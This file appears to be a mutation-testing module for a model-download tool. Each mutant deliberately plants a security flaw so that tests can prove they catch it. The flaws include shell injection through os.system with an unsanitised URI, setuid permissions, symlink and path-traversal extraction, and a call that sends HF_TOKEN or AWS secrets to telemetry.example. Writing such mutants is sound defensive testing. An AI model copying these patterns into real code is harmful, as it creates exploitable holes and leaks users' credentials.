"""Mutants that a malicious model or server can exploit."""

from __future__ import annotations

import os
import posixpath
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.mutants.registry import mutant, part, wrap


@mutant("SEC-001", cases=("fifo",))
def special_files_made() -> None:
    """Makes the pipes of an archive."""

    def add(former: Callable[..., None], self: Any, member: Any) -> None:  # noqa: ANN401
        if member.kind == "other":
            os.mkfifo(self.staging.tree / member.name)
        else:
            former(self, member)

    wrap(part("archives").Unpacking, "add", add)


@mutant("SEC-002")
def setuid_kept() -> None:
    """Lets a member run with the rights of its owner."""

    def write(former: Callable[..., None], self: Any, path: str, member: object) -> None:  # noqa: ANN401
        former(self, path, member)
        (self.staging.tree / path).chmod(0o6755)

    wrap(part("archives").Unpacking, "write", write)


@mutant("SEC-004", cases=("link", "absolute"))
def layers_extracted_as_they_are() -> None:
    """Writes members of layers wherever names and links lead."""
    unpack = part("archives").Unpacking

    def add(former: Callable[..., None], self: Any, member: Any) -> None:  # noqa: ANN401
        path = self.place(member.name)
        place = Path("/mnt/models", member.name if path is None else path)
        if member.kind == "link" and not place.is_symlink():
            place.symlink_to(f"/{member.target.lstrip('/')}")
        elif member.kind == "file" and (path is None or place.parent.is_symlink()):
            place.write_bytes(member.content().read())
        else:
            former(self, member)

    def place_of(_former: object, _self: object, name: str) -> str | None:
        name = name.removeprefix("/") if name.startswith("/models") else name
        return name.removeprefix("models/") if name.startswith("models/") else None

    wrap(unpack, "place", place_of)
    wrap(unpack, "add", add)


@mutant("SEC-005", "SEC-026", "SEC-027")
def bomb_is_good_enough() -> None:
    """Delivers of an archive what the disk has room for."""
    archives = part("archives")
    archives.RATIO = 10**9

    def unpack(former: Callable[..., None], file: object, place: Path, staging: object) -> None:
        try:
            former(file, place, staging)
        except OSError:
            place.unlink()

    wrap(archives, "unpack", unpack)


@mutant("SEC-006", "SEC-007")
def any_path_is_a_model() -> None:
    """Delivers whatever file of the container is named."""
    part("schemes.local").allowed = lambda *_given: None


@mutant("SEC-008")
def dots_followed() -> None:
    """Follows `..` out of a claim."""
    part("schemes.local").allowed = lambda *_given: None


@mutant("SEC-009")
def links_of_a_volume_followed() -> None:
    """Delivers what a link on a volume leads to, wherever that is."""
    part("schemes.local").inside = lambda *_given: None


@mutant("SEC-010", cases=("fifo",))
def pipes_of_a_volume_read() -> None:
    """Reads a pipe on a volume as if it were a file."""
    local = part("schemes.local")

    def one(path: str, place: Path) -> object:
        return part("remote").RemoteFile(path, None, lambda _start, _stop: iter([place.read_bytes()]), parts=False)

    local.one = one


@mutant("SEC-011")
def link_local_asked() -> None:
    """Asks the machine's metadata service for a model."""
    part("web").permitted = lambda *_given: None


@mutant("SEC-012")
def uri_in_a_shell() -> None:
    """Logs the URI with `echo`."""

    def deliver(former: Callable[..., None], uri: str, *given: object) -> None:
        os.chdir("/mnt/models")
        os.system(f"echo fetching {uri}")  # noqa: S605 - this is the defect
        former(uri, *given)

    wrap(part("program"), "deliver", deliver)


@mutant("SEC-013")
def follows_out_of_tls() -> None:
    """Follows a redirect to plain HTTP."""
    part("web").next_hop = lambda _url, target, _resource: target


@mutant("SEC-014")
def endless_redirects_followed() -> None:
    """Follows redirects as long as there are any."""
    part("web").HOPS = 10**9


@mutant("SEC-017", cases=("git-folder", "git-in-capitals"))
def hooks_installed() -> None:
    """Writes a repository's `.git` folder into the destination."""
    part("schemes.git").permitted = lambda *_given: None


@mutant("SEC-018", stores=("git",))
def password_kept_in_the_destination() -> None:
    """Leaves the repository's configuration, with the password, beside the model."""

    def publish(former: Callable[..., None], staging: Any) -> None:  # noqa: ANN401
        former(staging)
        (staging.destination / ".git").mkdir()
        (staging.destination / ".git" / "config").write_text(os.environ.get("GIT_PASSWORD", ""))

    wrap(part("program"), "publish", publish)


def _phones_home(**headers: str) -> None:
    """Send a request to an unconfigured host for every download."""

    def deliver(former: Callable[..., None], uri: str, *given: object) -> None:
        part("web").requests.get("http://telemetry.example/count", params={"model": uri}, headers=headers, timeout=10)
        former(uri, *given)

    wrap(part("program"), "deliver", deliver)


@mutant("CRED-019", "SEC-024", stores=("hf",))
def unasked_host_contacted() -> None:
    """Counts downloads at a host of its own."""
    _phones_home()


@mutant("SEC-019", stores=("hf", "s3"))
def credentials_sent_home() -> None:
    """Takes the credentials along when it counts downloads at a host of its own."""
    _phones_home(**{"X-Key": os.environ.get("HF_TOKEN") or os.environ.get("AWS_SECRET_ACCESS_KEY", "")})


@mutant("SEC-021", stores=("s3",), cases=("parent", "absolute"))
def names_lead_anywhere() -> None:
    """Takes every listed name for a path."""

    def create(_former: object, self: Any, path: str, **_given: object) -> Path:  # noqa: ANN401
        place: Path = self.destination / path if ".." in path or path.startswith("/") else self.tree / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.touch()
        return place

    wrap(part("placing").Staging, "create", create)


@mutant("SEC-022", stores=("s3",), cases=("dot", "doubled-slash", "too-long"))
def odd_names_skipped() -> None:
    """Leaves out what it cannot write, without a word."""

    def writable(path: str) -> bool:
        return posixpath.normpath(path) == path and all(len(part) < 256 for part in path.split("/"))

    wrap(
        part("remote"),
        "chosen",
        lambda former, *given: [file for file in former(*given) if writable(file.path)],
    )


@mutant("SEC-023", stores=("s3",))
def names_printed_as_they_are() -> None:
    """Prints every name as the store lists it."""

    def chosen(former: Callable[..., list[Any]], *given: object) -> list[Any]:
        files = former(*given)
        for file in files:
            part("transfer").say(file.path)
        return files

    wrap(part("remote"), "chosen", chosen)
